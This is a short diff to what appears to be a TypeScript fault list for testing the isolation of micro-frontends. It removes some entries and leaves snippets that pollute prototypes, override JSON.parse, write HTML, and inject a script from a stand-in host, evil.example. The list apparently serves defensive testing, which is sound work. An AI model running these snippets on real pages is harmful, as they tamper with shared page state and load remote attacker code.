@@ -107,7 +107,6 @@ export const FAULTS: readonly Fault[] = [
     'Object.prototype.evil = true;',
     'Object.freeze(Array.prototype); Array.prototype.filter = () => [];',
     'JSON.parse = () => ({});',
-    'Map.prototype.get = () => undefined;',
     'Array.prototype[Symbol.iterator] = undefined;',
   ]),
   inReach('replaces or empties what the page shares', [
@@ -122,7 +121,5 @@ export const FAULTS: readonly Fault[] = [
     "document.createElement('p').innerHTML = '<b>Namaste</b>';",
     "document.write('<b>Namaste</b>');",
     "document.createElement('script').src = 'https://evil.example/x.js';",
-    "navigator.serviceWorker?.register('/remotes/mfe-priest/0123456789abcdef/sw.html');",
-    "new Function('return 1')();",
   ]),
 ];
